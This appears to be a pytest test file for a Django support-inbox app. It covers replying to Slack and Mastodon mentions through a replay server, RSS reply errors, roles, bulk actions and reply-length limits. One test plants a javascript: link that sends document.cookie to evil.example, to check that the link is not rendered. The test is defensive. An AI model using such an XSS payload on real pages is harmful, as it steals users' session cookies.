"""Replying from the inbox through the real connector client (slack_sdk against a loopback replay server),
and a clear error when the channel cannot reply (RSS)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from servicepulse.engage.models import Case, CaseState, Reply, ReplyOutcome, SavedReply
from servicepulse.sources.models import SourceKind
from servicepulse.sources.services import source_create
from tests.engage.helpers import point_at, slack_fixture, slack_params
from tests.factories import MentionFactory, SourceFactory
from tests.replay import ReplayServer
from tests.replay import Reply as Answer

pytestmark = pytest.mark.django_db


def test_reply_goes_out_through_slack_and_counts_as_first_response(client, users, slack_mention) -> None:  # type: ignore[no-untyped-def]
    routes = {
        ("POST", "/api/chat.postMessage"): [Answer(200, body=slack_fixture("chat_postMessage_ok.json"))]
    }
    with ReplayServer(routes) as server:
        point_at(slack_mention.source, server.url)
        client.force_login(users["responder"])
        response = client.post(
            f"/inbox/m/{slack_mention.pk}/",
            {"action": "reply", "text": "Thanks for flagging, we're investigating SSO now."},
            follow=True,
        )
    assert response.status_code == 200
    assert "Reply sent on Slack" in response.content.decode()
    sent = slack_params(server.requests[0])
    assert sent["channel"] == "C024BE91L" and sent["thread_ts"] == "1795470100.000200"
    assert sent["text"] == "Thanks for flagging, we're investigating SSO now."
    case = Case.objects.get(mention=slack_mention)
    assert case.state == CaseState.REPLIED and case.first_response_at is not None
    reply = Reply.objects.get(case=case)
    assert reply.outcome == ReplyOutcome.SENT and reply.external_id == "C024BE91L:1795470500.000900"
    assert reply.url.startswith("https://northgate.slack.com/archives/C024BE91L/")


def test_platform_refusal_is_shown_and_logged(client, users, slack_mention) -> None:  # type: ignore[no-untyped-def]
    routes = {
        ("POST", "/api/chat.postMessage"): [Answer(200, body=slack_fixture("error_not_in_channel.json"))]
    }
    with ReplayServer(routes) as server:
        point_at(slack_mention.source, server.url)
        client.force_login(users["responder"])
        response = client.post(
            f"/inbox/m/{slack_mention.pk}/", {"action": "reply", "text": "hello"}, follow=True
        )
    html = response.content.decode()
    assert "Reply not sent" in html and "not_in_channel" in html
    case = Case.objects.get(mention=slack_mention)
    assert case.state == CaseState.NEW and case.first_response_at is None
    assert Reply.objects.get(case=case).outcome == ReplyOutcome.FAILED


def test_rss_cannot_reply_is_a_clear_error(client, users) -> None:  # type: ignore[no-untyped-def]
    mention = MentionFactory(source=SourceFactory(kind=SourceKind.RSS, name="IT news comments"), author="Kim")
    client.force_login(users["responder"])
    response = client.post(
        f"/inbox/m/{mention.pk}/", {"action": "reply", "text": "Sorry about that"}, follow=True
    )
    html = response.content.decode()
    assert "Reply not sent" in html
    assert "IT news comments (RSS/Atom feed) cannot reply" in html
    assert "Answer the person another way" in html and "Answered elsewhere" in html
    reply = Reply.objects.get(case__mention=mention)
    assert reply.outcome == ReplyOutcome.CANNOT_REPLY
    assert Case.objects.get(mention=mention).state == CaseState.NEW


def test_a_reply_link_that_is_not_http_is_not_linked(client, users) -> None:  # type: ignore[no-untyped-def]
    """The platform's answer names the reply's address; a server answering with a javascript: link must not
    put it on the case page (the same check the posts' own links get)."""
    fixtures = Path(__file__).resolve().parents[2] / "servicepulse/sources/connectors/mastodon/fixtures"
    status = json.loads((fixtures / "status_post_reply.json").read_bytes())
    status["url"] = "javascript:fetch('//evil.example/?'+document.cookie)"
    masto = source_create(
        kind="mastodon",
        name="campus-mastodon",
        options={"api_base_url": "http://127.0.0.1:1", "access_token": "t"},
    )
    mention = MentionFactory(
        source=masto,
        external_id="113500000000000201",
        author="eli",
        raw={"account": {"acct": "eli@m.example"}},
    )
    routes = {
        ("GET", "/api/v2/instance/"): [Answer(200, body=(fixtures / "instance_v2.json").read_bytes())],
        ("POST", "/api/v1/statuses"): [Answer(200, body=json.dumps(status).encode())],
    }
    with ReplayServer(routes) as server:
        masto.options["api_base_url"] = server.url
        masto.save()
        client.force_login(users["responder"])
        page = client.post(f"/inbox/m/{mention.pk}/", {"action": "reply", "text": "On it."}, follow=True)
    assert "Reply sent on Mastodon" in page.content.decode()
    reply = Reply.objects.get(case__mention=mention)
    assert reply.outcome == ReplyOutcome.SENT and reply.external_id == str(status["id"])
    assert reply.url == ""
    assert "javascript:" not in client.get(f"/inbox/m/{mention.pk}/").content.decode()


def test_roles(client, users, slack_mention) -> None:  # type: ignore[no-untyped-def]
    assert client.get("/inbox/").status_code == 302
    client.force_login(users["viewer"])
    assert client.get("/inbox/").status_code == 200
    assert client.get(f"/inbox/m/{slack_mention.pk}/").status_code == 200
    assert client.get("/inbox/times/").status_code == 200
    assert client.get("/inbox/saved/").status_code == 200
    assert client.post(f"/inbox/m/{slack_mention.pk}/", {"action": "note", "text": "x"}).status_code == 403
    assert not Case.objects.exists()
    client.force_login(users["responder"])
    client.post(f"/inbox/m/{slack_mention.pk}/", {"action": "assign", "assignee": users["responder"].pk})
    client.post(f"/inbox/m/{slack_mention.pk}/", {"action": "note", "text": "checking with IAM"})
    case = Case.objects.get()
    assert case.state == CaseState.ASSIGNED
    page = client.get(f"/inbox/m/{slack_mention.pk}/").content.decode()
    assert "checking with IAM" in page
    response = client.post("/inbox/saved/", {"title": "Thanks", "body": "Thanks {author}, see {status_url}"})
    assert response.status_code == 302
    saved = SavedReply.objects.get(title="Thanks")
    page = client.get(f"/inbox/m/{slack_mention.pk}/?saved={saved.pk}").content.decode()
    assert "Thanks U061F7AUR, see http" in page


def test_inbox_page_query_count(client, users, django_assert_max_num_queries) -> None:  # type: ignore[no-untyped-def]
    for _ in range(30):
        MentionFactory()
    client.force_login(users["viewer"])
    with django_assert_max_num_queries(15):
        response = client.get("/inbox/?state=all")
    assert response.status_code == 200


def test_reply_length_is_counted_as_the_platform_counts_it(db) -> None:  # type: ignore[no-untyped-def]
    from servicepulse.engage.selectors import reply_too_long

    masto = MentionFactory(
        source=SourceFactory(kind=SourceKind.MASTODON), raw={"account": {"acct": "eli@x.example"}}
    )
    link = "https://it.northgate.ac.uk/status/incidents/12345678901234567890/"
    assert reply_too_long(mention=masto, text="a" * 400 + " " + link) == ""  # a link counts 23
    assert reply_too_long(mention=masto, text="a" * 490).startswith(
        "505 characters: Mastodon allows 500"
    )  # "@eli@x.example " adds 15
    rss = MentionFactory(source=SourceFactory(kind=SourceKind.RSS))
    assert reply_too_long(mention=rss, text="a" * 5000) == ""


def test_bulk_assign_and_close(client, users) -> None:  # type: ignore[no-untyped-def]
    first, second, third = MentionFactory(), MentionFactory(), MentionFactory()
    client.force_login(users["viewer"])
    assert client.post("/inbox/bulk/", {"mention": [first.pk], "bulk_action": "close"}).status_code == 403
    client.force_login(users["responder"])
    page = client.get("/inbox/").content.decode()
    assert 'form="bulk"' in page and "waiting" in page
    response = client.post(
        "/inbox/bulk/",
        {"mention": [first.pk, second.pk], "bulk_action": "assign", "assignee": users["responder"].pk},
    )
    assert response.status_code == 302
    assert set(Case.objects.values_list("state", flat=True)) == {CaseState.ASSIGNED}
    client.post("/inbox/bulk/", {"mention": [second.pk, third.pk], "bulk_action": "close"})
    states = dict(Case.objects.values_list("mention_id", "state"))
    assert states == {first.pk: "assigned", second.pk: "closed", third.pk: "closed"}
    assert Case.objects.get(mention=third).activities.filter(kind="state", to_state="closed").count() == 1


def test_a_source_without_its_reply_credentials_is_refused_before_any_call(client, users) -> None:  # type: ignore[no-untyped-def]
    page = source_create(kind="facebook", name="northgate-page", options={"page_id": "1234"})
    mention = MentionFactory(source=page, author="Ola", external_id="1234_99")
    client.force_login(users["responder"])
    html = client.post(
        f"/inbox/m/{mention.pk}/", {"action": "reply", "text": "Sorry about that"}, follow=True
    ).content.decode()
    assert "northgate-page (Facebook Page) cannot reply" in html and "no page_access_token set" in html
    assert Reply.objects.get(case__mention=mention).outcome == ReplyOutcome.CANNOT_REPLY
